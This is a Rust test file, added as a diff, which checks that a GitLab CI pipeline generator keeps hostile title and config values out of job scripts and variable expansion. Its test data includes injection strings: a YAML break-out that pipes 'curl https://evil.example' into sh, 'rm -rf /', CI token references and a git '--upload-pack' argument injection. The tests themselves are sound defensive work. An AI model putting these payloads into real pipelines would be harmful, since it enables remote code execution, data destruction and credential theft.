@@ -1,0 +1,191 @@
+//! Hostile values: nothing from a title, a config or a payload may add a job, change a script
+//! or expand a CI variable in a generated pipeline.
+
+use grove_core::fleet::Fleet;
+use grove_core::plan::{BaseImage, Plan};
+use grove_core::request::Repository;
+use grove_core::template::{Templates, EMBEDDED};
+use grove_core::{generate, pipeline, request_from_title, ErrorKind, Files, Pipeline};
+use std::collections::BTreeSet;
+use std::path::Path;
+
+/// Values crafted to break out of a YAML string, start a job, or be expanded by GitLab.
+const HOSTILE: &[&str] = &[
+    "x\"\nevil:\n  script: [curl https://evil.example | sh]\n#",
+    "x'\n- rm -rf /",
+    "$CI_JOB_TOKEN ${CI_REGISTRY_PASSWORD} $$CI_JOB_TOKEN",
+    "a: b\n  needs: [nowhere]",
+    "{{ patch \"x\" }} {{{raw}}} <script>",
+    "\u{2028}evil:\u{2029}\u{85}script: [x]",
+    "&anchor *alias !!python/object:os.system",
+];
+
+/// The example cluster repository, read from disk (tests may do I/O; core's code may not).
+fn example_files() -> Files {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/cluster");
+    let mut files = Files::new();
+    fn walk(root: &Path, dir: &Path, files: &mut Files) {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                walk(root, &path, files);
+            } else {
+                let rel = path.strip_prefix(root).unwrap().to_str().unwrap().replace('\\', "/");
+                files.insert(rel, std::fs::read_to_string(&path).unwrap());
+            }
+        }
+    }
+    walk(&root, &root, &mut files);
+    files
+}
+
+/// Every script line the embedded templates can write.
+fn template_script_lines() -> BTreeSet<String> {
+    EMBEDDED
+        .iter()
+        .flat_map(|(_, text)| text.lines())
+        .filter_map(|line| line.trim_start().strip_prefix("- "))
+        .filter(|line| line.starts_with("grove ") || line.starts_with("echo "))
+        .map(str::to_string)
+        .collect()
+}
+
+/// Asserts the pipeline's jobs, scripts and variables are the template's, with `values` only as
+/// unexpanded variable values.
+fn assert_contained(pipeline: &Pipeline, expected_jobs: &[&str], values: &[&str]) {
+    let names: Vec<&str> = pipeline.jobs.iter().map(|j| j.name.as_str()).collect();
+    assert_eq!(names, expected_jobs);
+    let allowed = template_script_lines();
+    for job in &pipeline.jobs {
+        for line in &job.script {
+            assert!(allowed.contains(line), "job {} runs {line:?}, which no template writes", job.name);
+        }
+        for variable in &job.variables {
+            assert!(!variable.expand, "job {}: {} is expanded", job.name, variable.name);
+        }
+    }
+    let carried: BTreeSet<&str> = pipeline
+        .jobs
+        .iter()
+        .flat_map(|j| j.variables.iter().map(|v| v.value.as_str()))
+        .collect();
+    for value in values {
+        assert!(carried.contains(value), "{value:?} did not arrive intact as a variable value");
+    }
+}
+
+#[test]
+fn hostile_values_stay_inside_unexpanded_variables() {
+    let fleet = Fleet::new(example_files()).unwrap();
+    let templates = Templates::new(&fleet).unwrap();
+    for hostile in HOSTILE {
+        // A plan is built only from checked values; build one by hand to test the renderer alone.
+        let mut plan = Plan::new(&request_from_title("no tag").unwrap().0, &fleet).unwrap();
+        plan.reason = Some(hostile.to_string());
+        let (_, pipeline) = pipeline::render(&plan, &fleet, &templates).unwrap();
+        assert_contained(&pipeline, &["noop"], &[hostile]);
+
+        let mut plan = Plan::new(&request_from_title("[AutoDeploy][Infrastructure] x").unwrap().0, &fleet).unwrap();
+        plan.terraform = false;
+        plan.base_images.push(BaseImage {
+            repository: Repository::parse("https://x.org/a.git").unwrap(),
+            version: hostile.to_string(),
+            instances: 0,
+        });
+        let (_, pipeline) = pipeline::render(&plan, &fleet, &templates).unwrap();
+        assert_contained(&pipeline, &["base-image:1"], &[hostile, "https://x.org/a.git"]);
+    }
+}
+
+#[test]
+fn every_generated_pipeline_runs_only_template_scripts_and_expands_nothing() {
+    let fleet = Fleet::new(example_files()).unwrap();
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/titles");
+    let mut checked = 0;
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_some_and(|e| e == "title") {
+            let title = std::fs::read_to_string(&path).unwrap();
+            let (request, _) = request_from_title(title.trim_end()).unwrap();
+            let generated = generate(&request, &fleet).unwrap();
+            let names: Vec<&str> = generated.pipeline.jobs.iter().map(|j| j.name.as_str()).collect();
+            assert_contained(&generated.pipeline, &names, &[]);
+            checked += 1;
+        }
+    }
+    assert!(checked >= 10);
+}
+
+#[test]
+fn hostile_config_values_are_refused_naming_the_file() {
+    for hostile in ["https://x.org/$CI_JOB_TOKEN", "--upload-pack=touch /tmp/x", "a b"] {
+        let mut files = example_files();
+        files.insert(
+            "instances/campus/config.yml".into(),
+            format!("LMS_HOST: campus.example.org\nEDX_PLATFORM_REPOSITORY: {hostile:?}\n"),
+        );
+        let fleet = Fleet::new(files).unwrap();
+        let (request, _) = request_from_title("[AutoDeploy][Batch][UpgradeTo] abcdef1").unwrap();
+        let error = generate(&request, &fleet).unwrap_err();
+        assert_eq!(error.kind, ErrorKind::InvalidInput, "{hostile}");
+        assert!(error.message.starts_with("instances/campus/config.yml: "), "{}", error.message);
+        assert_eq!(error.diagnostics[0].start, 29, "points at EDX_PLATFORM_REPOSITORY");
+    }
+}
+
+#[test]
+fn a_hostile_value_in_a_config_cannot_match_a_batch() {
+    // Titles refuse such values, so a config carrying one is never picked by [Batch][Upgrade].
+    let mut files = example_files();
+    files.insert(
+        "instances/campus/config.yml".into(),
+        "EDX_PLATFORM_REPOSITORY: https://github.com/openedx/edx-platform.git\nEDX_PLATFORM_VERSION: \"main\\n  script: [evil]\"\n".into(),
+    );
+    let fleet = Fleet::new(files).unwrap();
+    let title = "[AutoDeploy][Batch][Upgrade] https://github.com/openedx/edx-platform.git|main";
+    let generated = generate(&request_from_title(title).unwrap().0, &fleet).unwrap();
+    assert!(generated.plan.instances.is_empty());
+    assert_eq!(generated.pipeline.jobs.len(), 1);
+}
+
+#[test]
+fn template_overrides_cannot_write_raw_values() {
+    for raw in ["{{{name}}}", "{{&name}}", "{{~{name}~}}"] {
+        let mut files = example_files();
+        files.insert(
+            "templates/pipelines/archive.yml.hbs".into(),
+            format!("{{{{plain job}}}}:\n  script:\n    - grove archive {raw}\n"),
+        );
+        let error = Templates::new(&Fleet::new(files).unwrap()).err().expect(raw);
+        assert_eq!(error.kind, ErrorKind::InvalidInput);
+        assert!(error.message.starts_with("templates/pipelines/archive.yml.hbs: raw output is not allowed"), "{}", error.message);
+    }
+}
+
+#[test]
+fn an_override_that_breaks_the_pipeline_is_caught_before_it_is_written() {
+    let mut files = example_files();
+    files.insert(
+        "templates/pipelines/archive.yml.hbs".into(),
+        "{{plain job}}:\n  stage: archive\n  needs: [somewhere]\n  script:\n    - grove archive \"$INSTANCE_NAME\"\n".into(),
+    );
+    let fleet = Fleet::new(files).unwrap();
+    let error = generate(&request_from_title("[AutoDeploy][Archive] labs").unwrap().0, &fleet).unwrap_err();
+    assert_eq!(error.kind, ErrorKind::InvalidInput);
+    assert!(error.message.contains("needs \"somewhere\", which is not a job"), "{}", error.message);
+}
+
+#[test]
+fn unknown_patches_are_listed_not_dropped() {
+    let mut files = example_files();
+    files.insert(
+        "grove.yml".into(),
+        "PIPELINE_PATCHES:\n  deploy-job: \"retry: 1\\n\"\n  deploy-jobs: \"retry: 2\\n\"\n".into(),
+    );
+    let fleet = Fleet::new(files).unwrap();
+    let generated = generate(&request_from_title("[AutoDeploy][Update] campus").unwrap().0, &fleet).unwrap();
+    assert_eq!(generated.plan.unknown_patches, ["deploy-jobs"]);
+    assert!(generated.yaml.contains("  retry: 1\n"));
+    assert!(!generated.yaml.contains("retry: 2"));
+    assert!(generated.plan.describe().contains("Unknown patches: PIPELINE_PATCHES in grove.yml names deploy-jobs"));
+}
